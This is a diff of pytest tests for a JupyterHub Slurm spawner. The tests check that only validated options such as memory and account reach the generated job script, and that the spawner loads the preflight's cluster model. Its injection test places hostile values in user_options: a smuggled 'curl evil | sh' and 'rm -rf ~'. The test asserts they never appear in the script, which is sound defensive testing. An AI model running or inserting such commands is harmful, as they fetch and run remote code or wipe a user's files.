@@ -15,6 +15,9 @@ from typing import Any
 import pytest
 from batchspawner.batchspawner import JobStatus
 
+from jupyterhub_hpc import resources
+from jupyterhub_hpc.model import ModelFormatError, Request
+from jupyterhub_hpc.resources import validate_cluster
 from jupyterhub_hpc.spawner import HPCSlurmSpawner, JobEndedEarly
 
 CLUSTER = {
@@ -28,6 +31,10 @@ CLUSTER = {
         "memory": {"min": 256, "default": 512, "max": 8000},
     },
 }
+
+
+# The preflight's output for CLUSTER: what the hub receives (hpc_cluster_model).
+SHIPPED = validate_cluster(CLUSTER).to_data()
 
 
 def fake(tmp_path: Path, name: str, body: str) -> str:
@@ -54,12 +61,12 @@ def spawner(tmp_path: Path, **config: Any) -> HPCSlurmSpawner:
     s = HPCSlurmSpawner(
         user=user,
         hub=hub,
-        cluster=CLUSTER,
         exec_prefix="",
         accounts_cmd=fake(tmp_path, "sacctmgr", "echo def-alice"),
         req_homedir=str(tmp_path),
         req_keepvars="PATH",
-        **{"job_board_cmd": "", "job_ledger_file": str(tmp_path / "jobs.json"), **config},
+        # cluster: as the batchspawner role writes it, the preflight's model
+        **{"cluster": SHIPPED, "job_board_cmd": "", "job_ledger_file": str(tmp_path / "jobs.json"), **config},
     )
     return s
 
@@ -97,18 +104,84 @@ def test_slurm_refusal_is_reported_in_slurms_words(tmp_path: Path) -> None:
 def test_only_validated_values_reach_the_job_script(tmp_path: Path) -> None:
     captured = tmp_path / "script.sh"
     sbatch = fake(tmp_path, "sbatch", f"cat >{captured}; echo 7")
-    s = spawner(tmp_path, batch_submit_cmd=sbatch, batch_script="#SBATCH --mem={memory}\n{prologue}\n{cmd}\n")
-    # What a crafted API request might carry, next to valid values, once validation has passed.
-    s.user_options = {"memory": "1G; curl evil | sh", "prologue": "rm -rf ~"}
+    template = "#SBATCH --mem={{memory}}\n{{prologue}}\n{{evil}}\n{{cmd}}\n"  # evil: a variable no setting has
+    s = spawner(tmp_path, batch_submit_cmd=sbatch, batch_script=template)
 
     async def submit() -> Any:
         await s.apply_options({"account": "def-alice", "memory": "1024"})
+        # What a crafted request might leave in user_options, next to the values that were validated: batchspawner
+        # would merge it into the script's variables (subvars.update(self.user_options)).
+        s.user_options = {"memory": "1G; curl evil | sh", "prologue": "rm -rf ~", "evil": "curl evil | sh"}
         return await s.submit_batch_script()
 
     assert asyncio.run(submit()) == "7"
     script = captured.read_text()
-    assert "#SBATCH --mem=1024M" in script
+    assert script.startswith("#SBATCH --mem=1024M\n\n\n")
     assert "evil" not in script and "rm -rf" not in script
+
+
+def test_the_job_script_is_rendered_from_the_validated_request_alone(tmp_path: Path) -> None:
+    s = spawner(tmp_path)
+    request = asyncio.run(s.validated({"account": "def-alice", "time": "2", "cores": "3", "memory": "2G"}))
+    assert isinstance(request, Request)
+    with pytest.raises(AttributeError):  # frozen: nothing changes it after validation
+        request.cores = 4  # type: ignore[misc]
+    subvars = s.job_script_vars(request)
+    assert {k: subvars[k] for k in ("account", "runtime", "nprocs", "memory", "gpus", "partition")} == {
+        "account": "def-alice",
+        "runtime": "02:00:00",
+        "nprocs": "3",
+        "memory": "2048M",
+        "gpus": "",
+        "partition": "",
+    }
+    s.user_options = {"nprocs": "999", "memory": "1T", "prologue": "id"}
+    assert s.job_script_vars(request) == subvars  # user_options are not read
+
+
+def test_nothing_is_submitted_without_a_validated_request(tmp_path: Path) -> None:
+    called = tmp_path / "called"
+    s = spawner(tmp_path, batch_submit_cmd=fake(tmp_path, "sbatch", f"touch {called}; echo 7"))
+    s.user_options = {"account": "def-alice"}  # never applied
+    with pytest.raises(RuntimeError, match="No validated Server Options"):
+        asyncio.run(s.submit_batch_script())
+    assert not called.exists()
+
+
+def test_a_request_is_validated_once(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    calls: list[Any] = []
+    real = resources.validate_request
+
+    def counting(options: Any, *args: Any) -> Request:
+        calls.append(dict(options))
+        return real(options, *args)
+
+    monkeypatch.setattr(resources, "validate_request", counting)
+    s = spawner(tmp_path)
+
+    async def form_then_spawn() -> Request | None:
+        options = await s.options_from_form({"account": ["def-alice"], "cores": ["2"], "_xsrf": ["x"]})
+        await s.apply_options(dict(options))  # the hub hands the same options (maybe a copy) to the spawn
+        return s.job_request
+
+    request = asyncio.run(form_then_spawn())
+    assert request is not None and request.cores == 2
+    assert calls == [{"account": "def-alice", "cores": "2"}]  # by options_from_form only
+
+    async def api_spawn() -> Request | None:
+        await s.apply_options({"account": "def-alice", "cores": 2})  # the REST API: validated here, once
+        return s.job_request
+
+    request = asyncio.run(api_spawn())
+    assert request is not None and request.cores == 2 and len(calls) == 2
+
+
+def test_the_spawner_loads_the_preflights_model_and_refuses_anything_else(tmp_path: Path) -> None:
+    assert spawner(tmp_path).model == validate_cluster(CLUSTER)
+    with pytest.raises(ModelFormatError, match=r"HPCSlurmSpawner\.cluster\.schema: missing"):
+        _ = spawner(tmp_path, cluster=CLUSTER).model  # the inventory's raw hpc_cluster: not what the hub loads
+    with pytest.raises(ModelFormatError, match="reads schema 1"):
+        _ = spawner(tmp_path, cluster={**SHIPPED, "schema": 2}).model
 
 
 def test_one_squeue_answers_every_pending_spawn(tmp_path: Path) -> None:
